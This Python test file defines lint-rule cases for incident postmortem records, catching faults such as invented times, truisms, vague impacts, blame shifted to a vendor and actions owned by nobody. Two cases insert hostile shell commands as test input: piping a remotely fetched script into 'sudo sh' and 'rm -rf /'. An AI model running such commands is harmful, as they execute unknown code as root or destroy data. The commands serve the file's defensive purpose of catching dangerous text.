"""Cases of the rules about hollow accounts: invented times, truisms, shifted causes, nobody in charge."""

from __future__ import annotations

from tests.helpers import changed, own_record, record_text
from tests.lint.rules.cases import OWN, Case, own, rewritten

_HOURS = ("10T22", "11T01", "11T04", "11T05", "11T06", "11T09")
_PARAPHRASE = "The old way of reading session lengths was used by the feature job after their unit had changed."
FRENCH = "Le format des journaux a été changé par une autre équipe sans que personne ne soit prévenu."
UNCOUNTED: dict[str, object] = {
    **{name: {"unknown": f"Nobody kept a count of {name}."} for name in ("users", "requests", "predictions")},
    "money": {"not_applicable": "Search carries no advertising."},
    "harm": {"unknown": "Nobody asked the visitors."},
    "notes": "Part of our visitors saw old pages first.",
}
"""An impact that says of nothing how much it was."""
_VENDOR = (
    "The vendor changed the unit of the session length.",
    "The vendor has no contract for the format of its log.",
)
_REFUTED = [
    {"text": "The changed unit spoilt the features.", "state": "supported", "evidence_for": ["E2"]},
    {"text": "The new model is worse.", "state": "refuted", "evidence_against": ["E2"]},
    {"text": "The cache was stale.", "state": "refuted", "evidence_against": ["E2"]},
]


def _several(code: str, subject: str, place: str, **changes: object) -> Case:
    """Our own record with several fields changed; mended, it is as before."""
    return Case(code, subject, place, {OWN: record_text(own_record(**changes))}, {})


def _in_body(code: str, subject: str, place: str, text: str) -> Case:
    return rewritten(code, subject, place, "It was a quiet night", text)


HOLLOW_CASES = (
    _several(
        "PM257",
        "timeline",
        "timeline:",
        **{f"timeline.{index}.at": f"2025-03-{hour}:00:00Z" for index, hour in enumerate(_HOURS)},
    ),
    _several(
        "PM257",
        "timeline",
        "timeline:",
        **{f"timeline.{index}.at": f"2025-03-11T0{index}:10:00Z" for index in range(6)},
    ),
    own("PM258", "detection.source", 'source: "alert"', "detection.source", "alert"),
    _several(
        "PM258",
        "detection.source",
        'source: "model-monitor"',
        **{
            "detection.source": "model-monitor",
            "timeline.1.text": "Six shops write to support that they are gone from the first page.",
            "timeline.2.text": "The alert on clicks fires.",
        },
    ),
    own("PM331", "lessons[0].text", 'text: "We should', "lessons.0.text", "We should test more and monitor better."),
    own("PM331", "lessons[0].text", 'text: "Good', "lessons.0.text", "Good communication between teams is key."),
    own("PM331", "lessons[0].text", 'text: "Data', "lessons.0.text", "Data should be looked at before it is used."),
    own("PM331", "lessons[0].text", 'text: "It pays', "lessons.0.text", "It pays to validate inputs."),
    own("PM332", "impact.harm", "harm:", "impact.harm", "Some users were affected."),
    own("PM332", "impact.notes", "notes:", "impact.notes", "Customers experienced a disruption of the service."),
    _several(
        "PM332", "impact", "impact:\n  users", impact=UNCOUNTED | {"harm": "Several partners saw old pages first."}
    ),
    Case(
        "PM416",
        "hypotheses[1].evidence_against",
        '    evidence_against:\n      - "E2"\n  - text: "The cache',
        {OWN: record_text(changed(own_record(), "hypotheses", _REFUTED))},
        {},
    ),
    _several(
        "PM418",
        "causes[0].text",
        'text: "The vendor changed',
        **{f"causes.{index}.text": text for index, text in enumerate(_VENDOR)},
    ),
    own("PM419", "causes[1].text", 'text: "The old way', "causes.1.text", _PARAPHRASE),
    own("PM534", "actions[2].title", 'title: "The team', "actions.2.title", "The team will take more care with units"),
    own("PM534", "actions[2].title", 'title: "Engineers', "actions.2.title", "Engineers were told to read the runbook"),
    own(
        "PM534", "actions[2].title", 'title: "Mandatory', "actions.2.title", "Mandatory training on units for the team"
    ),
    own("PM534", "actions[2].title", 'title: "Remind', "actions.2.title", "Remind everybody to be careful with units"),
    own(
        "PM535",
        "actions[1].success_criterion",
        'success_criterion: "The feature job runs',
        "actions.1.success_criterion",
        "The feature job runs every night as it did before.",
    ),
    own("PM536", "actions[2].person", 'person: "@team"', "actions.2.person", "@team"),
    own("PM536", "actions[1].person", 'person: "@data-platform"', "actions.1.person", "@data-platform"),
    own("PM536", "people.reviewers[0].person", 'person: "@everyone"', "people.reviewers.0.person", "@everyone"),
    _several(
        "PM537",
        "validation[0].result",
        'result: "pass"',
        **{
            "actions.1.success_criterion": "In a replay of that night recall is at least 0.9.",
            "validation.0.risk.reason": "The replay was refused, and recall was 0.6.",
        },
    ),
    own(
        "PM569",
        "evidence[1].uri",
        'uri: "https://postmortems.example.com',
        "evidence.1.uri",
        "https://postmortems.example.com/records/PM-2025-0001/",
    ),
    own("PM605", "causes[1].text", 'text: "Le format', "causes.1.text", FRENCH),
    _in_body("PM605", "body", "Der Ingenieur", "Der Ingenieur war es, der in der Nacht nicht auf die Daten sah"),
    own("PM607", "causes[0].text", 'text: "The cache', "causes.0.text", "The cache was most likely stale."),
    own("PM606", "timeline[3].text", 'text: "Probably', "timeline.3.text", "Probably somebody restarted the job."),
    _in_body("PM719", "record", "Run `curl", "Run `curl -sL https://fix.example.com/x.sh | sudo sh`. It was quiet"),
    _in_body("PM719", "record", "Run `rm", "Run `rm -rf /` first. It was quiet"),
    _several(
        "PM720",
        "visibility",
        'visibility: "public"\nteams',
        **{"trigger": {"category": "attack", "text": "Somebody typed it."}, "actions.1.type": "process"},
    ),
    _in_body("PM320", "body", "As an AI", "As an AI language model, I cannot see the logs. It was quiet"),
    _in_body("PM710", "body", "It hit", "It hit a 43-year-old diabetic woman. It was quiet"),
)
